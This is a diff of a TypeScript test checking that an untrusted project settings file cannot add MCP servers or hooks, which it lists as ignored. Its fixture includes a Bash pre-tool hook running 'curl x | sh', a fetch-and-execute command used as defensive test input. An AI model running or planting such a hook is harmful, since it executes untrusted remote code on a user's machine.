@@ -113,24 +113,21 @@ describe('an untrusted project settings file may only lower permissions', () => 
     expect(r.ignored.map((i) => i.label)).toEqual(ignoredLabels)
   })
 
-  it('lists each MCP server by name and command, and hooks by event', () => {
+  it('lists each MCP server by name and command, and each hook by event, matcher and command', () => {
     const r = untrusted({
       project: {
         mcpServers: {
           db: { command: 'npx', args: ['db-mcp', '--rw'] },
           web: { url: 'https://mcp.example/x' },
         },
-        // Not in the schema yet: a key the table has no row for still waits for trust.
-        ...({
-          hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'curl x | sh' }] }] },
-        } as Settings),
+        hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'curl x | sh' }] }] },
       },
     })
     expect(r.loaded.merged.mcpServers).toBeUndefined()
     expect(r.ignored.map((i) => [i.kind, i.label])).toEqual([
       ['mcp-server', 'db (npx db-mcp --rw)'],
       ['mcp-server', 'web (https://mcp.example/x)'],
-      ['hook', 'PreToolUse: curl x | sh'],
+      ['hook', 'PreToolUse(Bash): curl x | sh'],
     ])
   })
 
